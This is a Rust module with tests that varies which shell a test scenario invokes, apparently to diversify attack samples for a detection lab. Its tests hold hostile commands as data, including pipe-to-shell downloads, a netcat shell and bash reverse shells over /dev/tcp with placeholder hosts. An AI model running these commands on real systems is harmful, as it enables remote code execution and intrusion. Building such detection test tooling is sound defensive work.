//! Other shells, where the text is one that any of them runs.

use super::super::file::Scenario;
use super::Random;
use super::text::is_name;

/// What only bash understands, or is asked of it alone.
const BASH_ALONE: [&str; 22] = [
    "/dev/tcp",
    "/dev/udp",
    "<<<",
    "[[",
    "<(",
    ">(",
    "exec -a",
    "&>",
    ">&/",
    ">& ",
    "<>",
    "$'",
    "((",
    "coproc",
    "bash -l",
    "bash -ic",
    "--norc",
    "--rcfile",
    "HISTFILE",
    "history",
    "function ",
    "bash_",
];

/// What one shell's `echo` makes of it is not what the other's does.
const ECHOES: [&str; 2] = ["echo \"", "echo '"];

/// Shells of Debian's images, and of busybox's.
const DEBIAN: [&str; 3] = ["sh", "dash", "bash"];
const BUSYBOX: [&str; 2] = ["sh", "ash"];

/// The shells of `image`, as far as that is known.
fn shells(image: &str) -> &'static [&'static str] {
    match image {
        "busybox" => &BUSYBOX,
        "cron" | "mysql" | "tomcat" => &DEBIAN,
        _ if image.starts_with("debian-") => &DEBIAN,
        _ => &[],
    }
}

/// Puts another shell wherever one is named that may be any.
pub fn change(scenario: &mut Scenario, random: &mut Random) {
    let shells = shells(&scenario.image);
    let is_posix = !scenario.texts_mut().iter().any(|text| BASH_ALONE.iter().any(|mark| text.contains(mark)));
    for name in ["sh", "bash"] {
        let (true, Some(other)) = (name == "sh" || is_posix, random.one_of(shells)) else { continue };
        // A mark that no later round takes for a name.
        let mark = format!("\u{1}{}", other.to_uppercase());
        for text in scenario.texts_mut() {
            *text = replaced(text, name, &mark);
        }
    }
    for text in scenario.texts_mut() {
        for shell in shells {
            *text = text.replace(&format!("\u{1}{}", shell.to_uppercase()), shell);
        }
    }
}

/// `text` with `other` for the shell `name`, where that is run: by its path, or as a word of a command line.
fn replaced(text: &str, name: &str, other: &str) -> String {
    let mut made = String::with_capacity(text.len());
    let mut rest = 0;
    for (at, _) in text.match_indices(name) {
        let (before, after) = (&text[..at], &text[at + name.len()..]);
        let by_path = before.strip_suffix("/bin/").is_some_and(|lead| !lead.ends_with(is_name));
        let ends = !after.starts_with(|c: char| is_name(c) || c == '/' || c == '=' || c == ':');
        if at >= rest && ends && (by_path || is_command(before, after)) {
            made.push_str(&text[rest..at]);
            made.push_str(other);
            rest = at + name.len();
        }
    }
    made + &text[rest..]
}

/// The word between `before` and `after` is a command of a shell's text.
fn is_command(before: &str, after: &str) -> bool {
    let line = before.trim_end_matches(' ');
    let word = line.rsplit([' ', '\n']).next().unwrap_or_default();
    let begins = line.is_empty() || line.ends_with(['|', ';', '&', '(', '\n', '\'', '"']) && word.len() < 3;
    // Programs that run what follows.
    let led = before.ends_with(' ') && ["sudo", "exec", "nice", "env", "setsid", "-w", "A=b"].contains(&word);
    (begins || led) && after.starts_with([' ', '\n', ';', ')', '\'']) | after.is_empty()
}

/// Has the whole run told to another shell than the one that the container's runtime starts.
pub fn wrap(scenario: &mut Scenario, random: &mut Random) {
    let any = shells(&scenario.image);
    let is_same = !ECHOES.iter().any(|mark| scenario.run.contains(mark)) && !scenario.run.contains("<<");
    if !is_same || scenario.run.is_empty() || !random.once_in(3) {
        return;
    }
    if let Some(shell) = random.one_of(any) {
        let quoted = scenario.run.replace('\'', "'\\''");
        scenario.run = format!("exec {shell} -c '{quoted}'");
    }
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "tests")]
    use super::super::super::file::parse;
    use super::*;

    fn scenario(image: &str, run: &str) -> Scenario {
        let text = format!("[[scenario]]\nid='a'\nimage='{image}'\nexpect=['miner']\nrun='''{run}'''\n");
        parse(&text).unwrap().remove(0)
    }

    fn all(image: &str, run: &str) -> Vec<String> {
        let changed = |seed| {
            let mut one = scenario(image, run);
            change(&mut one, &mut Random::new(seed));
            one.run
        };
        let mut all: Vec<String> = (0..50).map(changed).collect();
        all.sort();
        all.dedup();
        all
    }

    #[test]
    fn a_shell_that_may_be_any_is_each() {
        assert_eq!(all("debian-tools", "curl x | bash"), ["curl x | bash", "curl x | dash", "curl x | sh"]);
        assert_eq!(all("debian-tools", "nc -e /bin/sh a 1").len(), 3);
        assert_eq!(all("debian-tools", "curl x | sudo bash -s").len(), 3);
        assert_eq!(all("busybox", "wget x | sh"), ["wget x | ash", "wget x | sh"]);
    }

    #[test]
    fn what_only_bash_runs_is_left_to_it() {
        assert_eq!(all("debian-tools", "bash -c 'bash -i >& /dev/tcp/a/1 0>&1'").len(), 1);
        assert_eq!(all("debian-tools", "bash -c 'exec 3<>/dev/tcp/a/1; exec sh <&3 >&3'").len(), 3);
    }

    #[test]
    fn a_name_that_is_no_shell_stays() {
        for run in ["cp /lab/fm /tmp/sh; /tmp/sh -o x", "curl x > s.sh", "cat /tmp/bash", "echo a sh b", "/usr/bin/sh1"]
        {
            assert_eq!(all("debian-tools", run), [run]);
        }
        assert_eq!(all("elsewhere", "curl x | sh").len(), 1);
    }

    #[test]
    fn a_wrapped_run_is_the_same_text() {
        let mut one = scenario("debian-tools", "a 'b c' d");
        for seed in 0..50 {
            wrap(&mut one, &mut Random::new(seed));
            if one.run != "a 'b c' d" {
                break;
            }
        }
        assert!(one.run.ends_with(" -c 'a '\\''b c'\\'' d'"), "{}", one.run);
    }
}
